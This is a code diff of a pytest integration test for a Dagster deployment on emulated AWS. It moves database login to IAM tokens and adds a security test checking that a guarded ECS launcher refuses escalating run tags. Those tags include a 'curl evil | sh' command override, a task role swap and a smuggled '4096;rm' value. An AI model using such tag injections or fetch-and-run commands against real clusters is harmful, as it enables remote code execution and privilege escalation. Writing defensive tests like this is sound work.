@@ -1,15 +1,15 @@
 """The real launch path of the deployed stack, without an AWS account.
 
 deploy/dagster.yaml (completed by deploy/entrypoint.sh, as the image does) is loaded into a real
-DagsterInstance: runs, events and schedules in a fresh PostgreSQL database; ECS, EC2, S3, Secrets
-Manager and CloudWatch Logs served by moto's server mode over HTTP. The code comes from a real
+DagsterInstance: runs, events and schedules in a fresh PostgreSQL database; ECS, EC2, S3 and
+CloudWatch Logs served by moto's server mode over HTTP. The code comes from a real
 `dagster code-server start` (the code-server service's command), reached through
-deploy/workspace.yaml. A daily_report_job run is launched through the EcsRunLauncher; the RunTask
-call must land in the emulated ECS with the run-worker task definition, the `dagster api
-execute_run` command, the task definition's environment and secret (by ARN) and the run's tags.
-Then the test does what Fargate would: it runs that command with the task's environment (secrets
-resolved from Secrets Manager) and the run must succeed in PostgreSQL, with the report in the
-emulated S3 holding the numbers an independent oracle computes from the landed files.
+deploy/workspace.yaml. A daily_report_job run is launched through the guarded EcsRunLauncher; the
+RunTask call must land in the emulated ECS with the run-worker task definition, the `dagster api
+execute_run` command, the task definition's environment and the run's tags. Then the test does
+what Fargate would: it runs that command with the task's environment and the run must succeed in
+PostgreSQL, with the report in the emulated S3 holding the numbers an independent oracle computes
+from the landed files. Every process logs in with an RDS IAM token (the test server trusts it).
 """
 
 from __future__ import annotations
@@ -31,14 +31,18 @@ from pathlib import Path
 import boto3
 import pytest
 import yaml
-from dagster import AssetKey, AssetRecordsFilter, DagsterInstance, DagsterRunStatus
+from dagster import AssetKey, AssetRecordsFilter, DagsterEventType, DagsterInstance, DagsterRunStatus
 from dagster._core.workspace.context import WorkspaceProcessContext
 from dagster._core.workspace.load_target import WorkspaceFileTarget
 from dagster._daemon.run_coordinator.queued_run_coordinator_daemon import QueuedRunCoordinatorDaemon
 from dagster._grpc.client import DagsterGrpcClient
 from dagster._serdes import serialize_value
+from dagster_aws.ecs import EcsRunLauncher
+from dagster_postgres.auth import AwsWifTokenProvider
+from sqlalchemy.engine import make_url
 
 from pipeline_project.core.contract import report_key
+from pipeline_project.ecs.launcher import GuardedEcsRunLauncher
 from pipeline_project.storage import open_storage
 from pipeline_project_tests.conftest import free_port, land_sample
 from pipeline_project_tests.core.reference import quarantined_rows, reference_day, report_numbers
@@ -53,18 +57,14 @@ LOCATION = "pipeline_project"
 JOB = "daily_report_job"
 DAY = "2025-03-04"
 ROWS = 240
-# With trust authentication PostgreSQL ignores it; it is here to prove it never leaks.
-PASSWORD = f"pw-{uuid.uuid4().hex}"
-# What Terraform grants the daemon/webserver role for launching runs (issue 3). Every AWS call the
-# launcher makes must be one of these: moto would happily answer anything else, AWS would not.
+# The daemon role's AWS actions (terraform/modules/iam): every call the launcher makes must be one
+# of them (test_least_privilege.py also proves each one is used).
 LAUNCHER_ACTIONS = {
     "ecs:RunTask",
     "ecs:DescribeTasks",
     "ecs:StopTask",
-    "ecs:RegisterTaskDefinition",
     "ecs:DescribeTaskDefinition",
     "ecs:TagResource",
-    "ec2:DescribeNetworkInterfaces",
     "logs:GetLogEvents",
 }
 
@@ -78,7 +78,6 @@ class Cloud:
     cluster_arn: str
     subnets: list[str]
     security_group: str
-    secret_arn: str
     task_definition_arn: str
 
     @property
@@ -136,11 +135,6 @@ def _create_cloud(db_name: str) -> Cloud:
     ]
     security_group = ec2.create_security_group(GroupName=f"{name}-run", Description="run workers", VpcId=vpc)["GroupId"]
 
-    # RDS manage_master_user_password: a JSON secret {"username", "password"}.
-    secret_arn = _aws("secretsmanager").create_secret(
-        Name=f"rds!db-{uuid.uuid4()}", SecretString=json.dumps({"username": PG["user"], "password": PASSWORD})
-    )["ARN"]
-
     _aws("logs").create_log_group(logGroupName=f"/ecs/{name}")
     ecs = _aws("ecs")
     cluster_arn = ecs.create_cluster(
@@ -166,7 +160,6 @@ def _create_cloud(db_name: str) -> Cloud:
                 # A soft reservation is valid on Fargate and changes nothing about the launch.
                 "memoryReservation": 512,
                 "environment": _task_environment(bucket, db_name),
-                "secrets": [{"name": "DAGSTER_PG_PASSWORD", "valueFrom": f"{secret_arn}:password::"}],
                 "logConfiguration": {
                     "logDriver": "awslogs",
                     "options": {
@@ -178,15 +171,14 @@ def _create_cloud(db_name: str) -> Cloud:
             }
         ],
     )["taskDefinition"]["taskDefinitionArn"]
-    return Cloud(name, bucket, cluster_arn, subnets, security_group, secret_arn, task_definition_arn)
+    return Cloud(name, bucket, cluster_arn, subnets, security_group, task_definition_arn)
 
 
 def _daemon_environment(cloud: Cloud, db_name: str) -> dict[str, str]:
-    """The daemon's environment: the plain values plus what ECS injects from the secret."""
+    """The daemon's environment: the plain values (no secret: the database login is an IAM token)."""
     env = {e["name"]: e["value"] for e in _task_environment(cloud.bucket, db_name)}
     return {
         **env,
-        "DAGSTER_PG_PASSWORD": PASSWORD,
         "DAGSTER_RUN_TASK_DEFINITION": cloud.family,
         "DAGSTER_ECS_CLUSTER": cloud.name,
         "DAGSTER_RUN_SUBNETS": ",".join(cloud.subnets),
@@ -352,25 +344,13 @@ def _describe_task(cloud: Cloud, task_arn: str) -> dict:
     return task
 
 
-def _resolve_secret(value_from: str) -> str:
-    """What the ECS agent does with a `secrets` entry: <secret arn>[:json-key:version-stage:version-id]."""
-    parts = value_from.split(":")
-    arn, (json_key, stage, version) = ":".join(parts[:7]), (parts[7:] + ["", "", ""])[:3]
-    request = {
-        "SecretId": arn,
-        **({"VersionStage": stage} if stage else {}),
-        **({"VersionId": version} if version else {}),
-    }
-    text = _aws("secretsmanager").get_secret_value(**request)["SecretString"]
-    return json.loads(text)[json_key] if json_key else text
-
-
 def _fargate_environment(stack: Stack, task: dict) -> dict[str, str]:
-    """The container's environment on Fargate: the task definition's values and resolved secrets,
+    """The container's environment on Fargate: the task definition's values (it has no secrets),
     the overrides' values, and what the platform adds. AWS_ENDPOINT_URL and the static keys stand in
     for the VPC endpoints and the task role; DAGSTER_HOME and PATH come from the image."""
     definition = _aws("ecs").describe_task_definition(taskDefinition=task["taskDefinitionArn"])["taskDefinition"]
     (container,) = [c for c in definition["containerDefinitions"] if c["name"] == "run"]
+    assert "secrets" not in container
     (override,) = task["overrides"]["containerOverrides"]
     return {
         "PATH": f"{BIN}{os.pathsep}/usr/bin:/bin",
@@ -381,7 +361,6 @@ def _fargate_environment(stack: Stack, task: dict) -> dict[str, str]:
         "AWS_ACCESS_KEY_ID": "testing",
         "AWS_SECRET_ACCESS_KEY": "testing",
         **{e["name"]: e["value"] for e in container.get("environment", [])},
-        **{s["name"]: _resolve_secret(s["valueFrom"]) for s in container.get("secrets", [])},
         **{e["name"]: e["value"] for e in override.get("environment", [])},
     }
 
@@ -396,7 +375,7 @@ def test_deploy_yaml_is_the_production_instance(stack: Stack):
     assert instance.compute_log_manager._s3_prefix == "compute-logs"
 
     launcher = instance.run_launcher
-    assert type(launcher).__name__ == "EcsRunLauncher"
+    assert type(launcher) is GuardedEcsRunLauncher and isinstance(launcher, EcsRunLauncher)
     assert launcher.task_definition == cloud.task_definition_arn  # the family, resolved to its ARN
     assert launcher.container_name == "run"
     assert launcher.use_current_ecs_task_config is False
@@ -433,10 +412,23 @@ def test_deploy_yaml_is_the_production_instance(stack: Stack):
     assert instance.run_retries_retry_on_asset_or_op_failure is False
     assert not instance.telemetry_enabled
 
-    # The password reached the instance through the environment only.
-    assert PASSWORD in instance.run_storage.postgres_url
-    assert PASSWORD not in (stack.home / "dagster.yaml").read_text()
-    assert PASSWORD not in serialize_value(instance.get_ref())  # what run workers receive
+    # No password anywhere: each storage mints an RDS IAM token for its connections, for the
+    # task's database user, from the task role's credentials; run workers get the same config.
+    for storage in (instance.run_storage, instance.event_log_storage, instance.schedule_storage):
+        provider = storage._token_provider
+        assert type(provider) is AwsWifTokenProvider
+        assert (provider._hostname, provider._port, provider._username, provider._region) == (
+            PG["host"],
+            PG["port"],
+            PG["user"],
+            REGION,
+        )
+        assert make_url(storage.postgres_url).password is None
+    config = yaml.safe_load((stack.home / "dagster.yaml").read_text())["storage"]["postgres"]
+    assert "password" not in config["postgres_db"]
+    assert config["auth_provider"] == {"aws_wif": {"region": {"env": "AWS_REGION"}}}
+    ref = serialize_value(instance.get_ref())  # what run workers receive
+    assert "aws_wif" in ref and "password" not in ref
 
 
 def test_launch_through_ecs_then_run_the_task_like_fargate(stack: Stack):
@@ -457,7 +449,6 @@ def test_launch_through_ecs_then_run_the_task_like_fargate(stack: Stack):
     }
     assert "launchType" not in request and request["capacityProviderStrategy"][0]["capacityProvider"] == "FARGATE_SPOT"
     assert len(json.dumps(request["overrides"])) < 8192  # the RunTask limit on overrides
-    assert PASSWORD not in json.dumps(request)
 
     # ... and the task as the emulated ECS holds it.
     run = instance.get_run_by_id(run.run_id)
@@ -476,13 +467,8 @@ def test_launch_through_ecs_then_run_the_task_like_fargate(stack: Stack):
     # An untagged run gets no size override: the run task definition's size (the first size tier).
     assert "cpu" not in task["overrides"] and "memory" not in task["overrides"]
     assert "cpu" not in override and "memory" not in override
-    # No environment or secret in the overrides: they are the task definition's, the secret by ARN.
+    # No environment or secret in the overrides: the environment is the task definition's.
     assert "environment" not in override and "secrets" not in override
-    assert PASSWORD not in json.dumps(task, default=str)
-    definition = _aws("ecs").describe_task_definition(taskDefinition=task["taskDefinitionArn"])["taskDefinition"]
-    (container,) = definition["containerDefinitions"]
-    assert container["secrets"] == [{"name": "DAGSTER_PG_PASSWORD", "valueFrom": f"{cloud.secret_arn}:password::"}]
-    assert "DAGSTER_PG_PASSWORD" not in {e["name"] for e in container["environment"]}
     tags = {t["key"]: t["value"] for t in task["tags"]}
     assert tags["dagster/run_id"] == run.run_id
     assert tags["dagster/job_name"] == JOB
@@ -502,7 +488,7 @@ def test_launch_through_ecs_then_run_the_task_like_fargate(stack: Stack):
 
     # What Fargate does next: run the container's command with the task's environment.
     env = _fargate_environment(stack, task)
-    assert env["DAGSTER_PG_PASSWORD"] == PASSWORD
+    assert "DAGSTER_PG_PASSWORD" not in env
     done = subprocess.run(command, env=env, cwd=REPO, capture_output=True, text=True, timeout=300)
     assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
 
@@ -575,7 +561,7 @@ def test_entrypoint_fills_in_only_safe_values(tmp_path):
         assert not marker.exists()
         assert (home / "dagster.yaml").read_text() == template
 
-    rendered = _entrypoint(home, {**env, "DAGSTER_PG_PASSWORD": PASSWORD}, "true")
+    rendered = _entrypoint(home, env, "true")
     assert rendered.returncode == 0, rendered.stderr
     config = yaml.safe_load((home / "dagster.yaml").read_text())
     vpc = config["run_launcher"]["config"]["run_task_kwargs"]["networkConfiguration"]["awsvpcConfiguration"]
@@ -584,10 +570,55 @@ def test_entrypoint_fills_in_only_safe_values(tmp_path):
         "securityGroups": ["sg-0123"],
         "assignPublicIp": "DISABLED",
     }
-    # Dagster's own {env: ...} references are untouched: the password stays in the environment.
-    assert config["storage"]["postgres"]["postgres_db"]["password"] == {"env": "DAGSTER_PG_PASSWORD"}
-    assert PASSWORD not in (home / "dagster.yaml").read_text()
+    # Dagster's own {env: ...} references are untouched.
+    assert config["storage"]["postgres"]["postgres_db"]["username"] == {"env": "DAGSTER_PG_USERNAME"}
     # Rendering again is a no-op.
     once = (home / "dagster.yaml").read_text()
     assert _entrypoint(home, {}, "true").returncode == 0
     assert (home / "dagster.yaml").read_text() == once
+
+
+# A run's tags are set by whoever launches it (UI, GraphQL, a sensor). Each of these would reach
+# RunTask through dagster_aws and change what the task runs, as whom, or where.
+ESCALATIONS = {
+    "ecs/run_task_kwargs": json.dumps(
+        {"networkConfiguration": {"awsvpcConfiguration": {"subnets": ["subnet-public"], "assignPublicIp": "ENABLED"}}}
+    ),
+    "ecs/task_overrides": json.dumps({"taskRoleArn": f"arn:aws:iam::{ACCOUNT}:role/pipeline-execution"}),
+    "ecs/container_overrides": json.dumps({"command": ["sh", "-c", "curl evil | sh"]}),
+    "ecs/ephemeral_storage": "200",
+    "ecs/task_definition": "arn:aws:ecs:us-east-1:123456789012:task-definition/other:1",
+}
+
+
+@pytest.mark.security
+@pytest.mark.parametrize(("tag", "value"), sorted(ESCALATIONS.items()) + [("ecs/cpu", "4096;rm"), ("ecs/memory", "0")])
+def test_the_queue_refuses_a_run_that_would_escalate_and_starts_no_task(stack: Stack, tag, value):
+    day = "2025-03-08"
+    refused = _create_run(stack, day, tags={tag: value})
+    request = stack.workspace.create_request_context()
+    stack.instance.submit_run(refused.run_id, request)
+    list(QueuedRunCoordinatorDaemon(interval_seconds=1).run_iteration(stack.workspace))
+
+    refused = stack.instance.get_run_by_id(refused.run_id)
+    assert refused.status == DagsterRunStatus.FAILURE
+    assert _run_task_calls(stack) == [] and _aws("ecs").list_tasks(cluster=stack.cloud.name)["taskArns"] == []
+    errors = [
+        e.dagster_event.engine_event_data.error.message
+        for e in stack.instance.all_logs(refused.run_id, of_type=DagsterEventType.ENGINE_EVENT)
+        if e.dagster_event.engine_event_data.error
+    ]
+    (reason,) = [m for m in errors if "refused" in m]
+    assert reason.startswith(f"pipeline_project.ecs.guard.EscalationRefused: run refused: its tag {tag} "), reason
+    assert "ecs/task_arn" not in refused.tags
+
+    # The same run without the tag, and a run with the sizing tags, are launched as usual.
+    for tags in ({}, {"ecs/cpu": "2048", "ecs/memory": "8192"}):
+        run = _create_run(stack, day, tags=tags)
+        stack.instance.submit_run(run.run_id, stack.workspace.create_request_context())
+        list(QueuedRunCoordinatorDaemon(interval_seconds=1).run_iteration(stack.workspace))
+        run = stack.instance.get_run_by_id(run.run_id)
+        assert run.status == DagsterRunStatus.STARTING
+        assert _describe_task(stack.cloud, run.tags["ecs/task_arn"])["lastStatus"] == "RUNNING"
+        _aws("ecs").stop_task(cluster=stack.cloud.name, task=run.tags["ecs/task_arn"])
+        stack.instance.report_run_failed(run)  # frees the day's concurrency slot for the next one
